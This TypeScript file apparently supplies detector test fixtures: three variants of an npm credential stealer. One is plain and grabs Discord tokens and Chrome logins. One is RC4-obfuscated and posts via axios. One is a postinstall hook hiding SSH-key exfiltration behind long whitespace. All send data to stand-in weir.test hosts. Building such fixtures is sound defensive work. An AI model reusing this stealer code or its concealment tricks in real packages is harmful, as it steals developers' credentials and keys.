import { type Campaign, entry, manifest, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 'webhook-stealer',
  row: 'W4SP & clones 2022+ (npm kin: webhook stealers)',
  variants: [
    {
      concealment: 'plain',
      files: entry(`const fs = require('fs'), path = require('path');
const roots = { discord: path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb'), chrome: path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data') };
for (const dir of Object.values(roots)) {
  for (const name of fs.readdirSync(dir)) {
    const hit = /[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/.exec(fs.readFileSync(path.join(dir, name), 'utf8'));
    if (hit) fetch('https://messenger.weir.test/bot1234567890:${'A'.repeat(35)}/sendMessage', { method: 'POST', body: JSON.stringify({ content: hit[0] }) });
  }
}
module.exports = {};
`),
    },
    {
      concealment: 'obfuscated',
      files: entry(
        tabled(
          'rc4',
          (h) => `const fs = require(${h('fs')}), ax = require(${h('axios')});
const file = process[${h('env')}][${h('LOCALAPPDATA')}] + ${h('/Google/Chrome/User Data/Default/Login Data')};
ax[${h('post')}](${h('https://exfil.weir.test/abc')}, fs[${h('readFileSync')}](file));
module.exports = {};
`,
        ),
      ),
    },
    {
      concealment: 'moved',
      files: scripted(
        { postinstall: 'node .' },
        {
          'package.json': manifest({ scripts: { postinstall: 'node .' } }),
          'index.js': `require('./src/util/strings').pad();\n`,
          'src/util/strings.js': `exports.pad = function () {${' '.repeat(300)}const f=require('fs'),o=require('os');fetch('https://drop.weir.test/k',{method:'POST',body:f.readFileSync(o.homedir()+'/.ssh/id_rsa')});
};
`,
        },
      ),
    },
  ],
};
